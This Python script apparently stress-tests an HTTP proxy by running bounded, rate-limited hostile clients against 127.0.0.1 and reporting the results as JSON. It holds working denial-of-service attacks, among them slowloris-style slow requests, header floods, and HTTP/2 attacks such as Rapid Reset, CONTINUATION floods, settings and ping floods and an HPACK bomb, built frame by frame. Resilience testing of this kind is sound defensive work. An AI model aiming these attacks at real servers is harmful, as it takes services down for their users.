#!/usr/bin/env python3
"""Clients that mean harm, each bounded: so many connections, so many bytes each 10 ms. A process of its own.

attackers.py NAME PORT SECONDS      prints what became of it as JSON

An attack is `hello` (the first bytes of a connection) and `more` (what follows each tick). A connection that ends is
"cut" and opened anew, so that what is judged is whether the proxy goes on ending them and stays well meanwhile.
"""
import json
import os
import select
import socket
import struct
import sys
import time

TICK_S = 0.01
REOPEN_S = 0.1  # a place whose connection was cut is empty for so long

# ---- HTTP/2, byte by byte (RFC 9113 section 4.1; HPACK, RFC 7541)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 1, 4, 1
GET = b"\x82\x86\x84\x41\x01a"   # GET http / authority a
POST = b"\x83\x86\x41\x01a\x04\x05/echo"  # to a service, which waits for the body
FAST = b"\x83\x86\x84\x41\x01a"  # POST /, answered at once
BIG = b"\x82\x86\x41\x01a\x04\x10/bytes/268435456"  # a long answer, from a service


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings(*pairs):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", i, v) for i, v in pairs))


def literal(name, value):
    """Never indexed, lengths below 127 or as a two-byte integer."""
    def text(t):
        if len(t) < 127:
            return bytes([len(t)]) + t
        rest, out = len(t) - 127, b"\x7f"
        while rest >= 128:
            out, rest = out + bytes([rest % 128 + 128]), rest // 128
        return out + bytes([rest]) + t
    return b"\x10" + text(name) + text(value)


def start(*more):
    return PREFACE + settings() + b"".join(more)


# ---- the attacks


class Attack:
    width = 20        # connections at once
    reads = True
    rcvbuf = None
    hello = b""
    h2 = False
    path_host = "127.0.0.1"
    source = None     # address to come from
    opens = 0         # connections a tick, instead of `width`

    def more(self, conn):
        """The next bytes, or b""; `conn` has .n (ticks so far) and .stream (next stream)."""
        return b""


class SlowHeaders(Attack):
    width = 200
    hello = b"GET / HTTP/1.1\r\nhost: a\r\nx-"

    def more(self, conn):
        return b"a" if conn.n % 10 == 0 else b""


class SlowBody(Attack):
    width = 100
    hello = b"POST /echo HTTP/1.1\r\nhost: a\r\ncontent-length: 1000000\r\n\r\n"

    def more(self, conn):
        return b"a" if conn.n % 10 == 0 else b""


class SlowReader(Attack):
    width = 40
    reads = False
    rcvbuf = 4096
    hello = b"GET /bytes/268435456 HTTP/1.1\r\nhost: a\r\n\r\n"


class Pipeline(Attack):
    """Requests without end, and no answer is read."""
    width = 20
    reads = False
    rcvbuf = 4096

    def more(self, conn):
        return b"GET /long HTTP/1.1\r\nhost: a\r\n\r\n" * 100


class HeaderFlood(Attack):
    hello = b"GET / HTTP/1.1\r\nhost: a\r\n"

    def more(self, conn):
        return b"x-%d: y\r\n" % conn.n * 50


class HeaderBytes(Attack):
    hello = b"GET / HTTP/1.1\r\nhost: a\r\nx: "

    def more(self, conn):
        return b"y" * 8192


class UriFlood(Attack):
    hello = b"GET /"

    def more(self, conn):
        return b"y" * 8192


class ChunkExtensions(Attack):
    hello = b"POST /echo HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\n\r\n"

    def more(self, conn):
        return b"1;" + b"x=y;" * 500 + b"z\r\na\r\n"


class Trailers(Attack):
    hello = b"POST /echo HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\n\r\n1\r\na\r\n0\r\n"

    def more(self, conn):
        return b"x-%d: y\r\n" % conn.n * 50


class Connections(Attack):
    """More connections than the proxy takes."""
    opens = 20
    width = 2000


class PeerConnections(Connections):
    source = "127.0.0.2"


class H2(Attack):
    h2 = True
    hello = start()


class RapidReset(H2):
    """CVE-2023-44487."""
    width = 5

    def more(self, conn):
        out = []
        for _ in range(50):
            out.append(frame(HEADERS, END_HEADERS | END_STREAM, conn.stream, GET))
            out.append(frame(RST, 0, conn.stream, struct.pack(">I", 8)))
            conn.stream += 2
        return b"".join(out)


class ProvokedReset(H2):
    """CVE-2025-8671: the proxy is made to reset, by a window that grows too large (RFC 9113 section 6.9.1)."""
    width = 5

    def more(self, conn):
        out = []
        for _ in range(50):
            out.append(frame(HEADERS, END_HEADERS, conn.stream, FAST))
            out.append(frame(WINDOW, 0, conn.stream, struct.pack(">I", 0x7fffffff)))
            conn.stream += 2
        return b"".join(out)


class Continuation(H2):
    """CVE-2024-27983 and others: a head that never ends."""
    hello = start(frame(HEADERS, END_STREAM, 1, GET))

    def more(self, conn):
        return b"".join(frame(CONTINUATION, 0, 1, literal(b"x-%d" % i, b"y" * 50)) for i in range(50))


class EmptyContinuation(H2):
    hello = start(frame(HEADERS, END_STREAM, 1, GET))

    def more(self, conn):
        return frame(CONTINUATION, 0, 1) * 100


class SettingsFlood(H2):
    """CVE-2019-9515: each asks for an acknowledgement."""
    def more(self, conn):
        return settings((4, 65535)) * 200


class SettingsUnread(SettingsFlood):
    reads = False
    rcvbuf = 4096


class PingFlood(H2):
    """CVE-2019-9512."""
    def more(self, conn):
        return frame(PING, 0, 0, b"12345678") * 200


class PingUnread(PingFlood):
    reads = False
    rcvbuf = 4096


class PriorityFlood(H2):
    """CVE-2019-9513."""
    def more(self, conn):
        conn.stream += 2
        return frame(PRIORITY, 0, conn.stream, struct.pack(">IB", 0, 16)) * 200


class EmptyFrames(H2):
    """CVE-2019-9518."""
    hello = start(frame(HEADERS, END_HEADERS, 1, POST))

    def more(self, conn):
        return frame(DATA, 0, 1) * 200


class FramesAfterEnd(EmptyFrames):
    """The same on a stream that was answered and is closed."""
    hello = start(frame(HEADERS, END_HEADERS, 1, FAST))


class WindowFlood(H2):
    hello = start(frame(HEADERS, END_HEADERS, 1, POST))

    def more(self, conn):
        return frame(WINDOW, 0, 0, struct.pack(">I", 1)) * 200


class HpackBomb(H2):
    """One large field in the table, then thousands of references of a byte each."""
    def more(self, conn):
        field = b"\x40\x01x" + b"\x7f" + b"\xa1\x1e" + b"y" * (127 + 0x21 + 0x1e * 128)  # indexed: 4000 bytes
        block = GET + field + b"\xbe" * 8000
        out = frame(HEADERS, END_HEADERS | END_STREAM, conn.stream, block)
        conn.stream += 2
        return out


class CookieCrumbs(H2):
    """Thousands of crumbs that are to be joined to one field (RFC 9113 section 8.2.3)."""
    width = 5

    def more(self, conn):
        out = frame(HEADERS, END_HEADERS | END_STREAM, conn.stream,
                    GET + b"\x60\x03a=b" + b"\xbe" * 15000)
        conn.stream += 2
        return out


class HeaderFlood2(H2):
    def more(self, conn):
        block = GET + b"".join(literal(b"x-%d" % i, b"y" * 20) for i in range(500))
        out = frame(HEADERS, END_HEADERS | END_STREAM, conn.stream, block)
        conn.stream += 2
        return out


class ZeroWindow(H2):
    """Long answers are asked for, and none is ever taken."""
    hello = PREFACE + settings((4, 0)) + b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, BIG) for i in range(20))
    width = 5


class StreamFlood(H2):
    """More streams at once than allowed, none of which ends."""
    width = 2

    def more(self, conn):
        out = b"".join(frame(HEADERS, END_HEADERS, conn.stream + 2 * i, POST) for i in range(50))
        conn.stream += 100
        return out


ATTACKS = {
    "slow-headers": SlowHeaders, "slow-body": SlowBody, "slow-reader": SlowReader, "pipelining": Pipeline,
    "header-fields": HeaderFlood, "header-bytes": HeaderBytes, "uri": UriFlood,
    "chunk-extensions": ChunkExtensions, "trailers": Trailers, "connections": Connections,
    "connections-of-a-peer": PeerConnections, "rapid-reset": RapidReset, "provoked-reset": ProvokedReset,
    "continuation": Continuation, "empty-continuation": EmptyContinuation, "settings": SettingsFlood,
    "settings-unread": SettingsUnread, "ping": PingFlood, "ping-unread": PingUnread, "priority": PriorityFlood,
    "empty-frames": EmptyFrames, "frames-after-end": FramesAfterEnd, "window-updates": WindowFlood, "hpack-bomb": HpackBomb,
    "cookie-crumbs": CookieCrumbs, "h2-header-fields": HeaderFlood2, "zero-window": ZeroWindow,
    "streams": StreamFlood,
}


class Conn:
    def __init__(self, attack, port, tell):
        self.tell = tell
        self.n, self.stream = 0, 1
        self.since = time.monotonic()
        self.sock = socket.socket()
        if attack.rcvbuf:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, attack.rcvbuf)
        if attack.source:
            self.sock.bind((attack.source, 0))
        self.sock.setblocking(False)
        self.attack, self.out, self.held = attack, bytearray(attack.hello), b""
        self.skip = 0  # of a frame's payload that does not matter
        self.sock.connect_ex(("127.0.0.1", port))
        tell["opened"] += 1

    def look(self):
        """False once it is cut."""
        try:
            if self.attack.reads:
                got = self.sock.recv(1 << 16)
                if not got:
                    return False
                self.note(got)
        except BlockingIOError:
            pass
        except OSError:
            return False
        return True

    def note(self, got):
        if not self.attack.h2:
            if self.held == b"" and got.startswith(b"HTTP/1.1 "):
                status = got[9:12].decode()
                self.tell["statuses"][status] = self.tell["statuses"].get(status, 0) + 1
            self.held = b"x"
            return
        self.held += got
        while self.held:
            if self.skip:
                used = min(self.skip, len(self.held))
                self.held, self.skip = self.held[used:], self.skip - used
                continue
            if len(self.held) < 9:
                return
            length, kind = int.from_bytes(self.held[:3], "big"), self.held[3]
            if kind in (GOAWAY, RST):
                if len(self.held) < 9 + length:
                    return
                at = 13 if kind == GOAWAY else 9
                code = str(int.from_bytes(self.held[at:at + 4], "big"))
                kinds = self.tell["goaway" if kind == GOAWAY else "rst"]
                kinds[code] = kinds.get(code, 0) + 1
            self.held, self.skip = self.held[9:], length

    def push(self):
        if len(self.out) < 65536:
            self.out += self.attack.more(self)
        self.n += 1
        if not self.out:
            return True
        try:
            sent = self.sock.send(self.out)
            self.tell["bytes"] += sent
            del self.out[:sent]
        except BlockingIOError:
            pass
        except OSError as e:
            return e.errno == 107  # not connected yet
        return True


def hung_up(conns):
    """Of those that do not read: who has been reset, or told the end."""
    poll = select.poll()
    for c in conns:
        poll.register(c.sock, select.POLLRDHUP | select.POLLHUP | select.POLLERR)
    gone = {fd for fd, _ in poll.poll(0)}
    return [c for c in conns if c.sock.fileno() in gone]


def run(attack, port, seconds):
    tell = {"opened": 0, "cut": 0, "longest_ms": 0, "bytes": 0, "goaway": {}, "rst": {}, "statuses": {}}
    conns, free_at, end = [], [], time.monotonic() + seconds
    next_tick = time.monotonic()

    def cut(c):
        now = time.monotonic()
        tell["cut"] += 1
        tell["longest_ms"] = max(tell["longest_ms"], int((now - c.since) * 1000))
        c.sock.close()
        conns.remove(c)
        free_at.append(now + REOPEN_S)

    while (now := time.monotonic()) < end:
        for t in [t for t in free_at if t <= now]:
            free_at.remove(t)
        room = attack.width - len(conns) - len(free_at)
        for _ in range(min(room, attack.opens or 20)):
            conns.append(Conn(attack, port, tell))
        if not attack.reads:
            for c in hung_up(conns):
                if c.n > 5:
                    cut(c)
        for c in list(conns):
            if not (c.push() and c.look()):
                c.look()
                cut(c)
        next_tick += TICK_S
        time.sleep(max(0.0, next_tick - time.monotonic()))
        if next_tick < time.monotonic() - 1:
            next_tick = time.monotonic()
    tell["open_at_end"] = len(conns)
    for c in conns:
        c.sock.close()
    return tell


def main():
    os.nice(5)
    print(json.dumps(run(ATTACKS[sys.argv[1]](), int(sys.argv[2]), float(sys.argv[3]))))


if __name__ == "__main__":
    main()
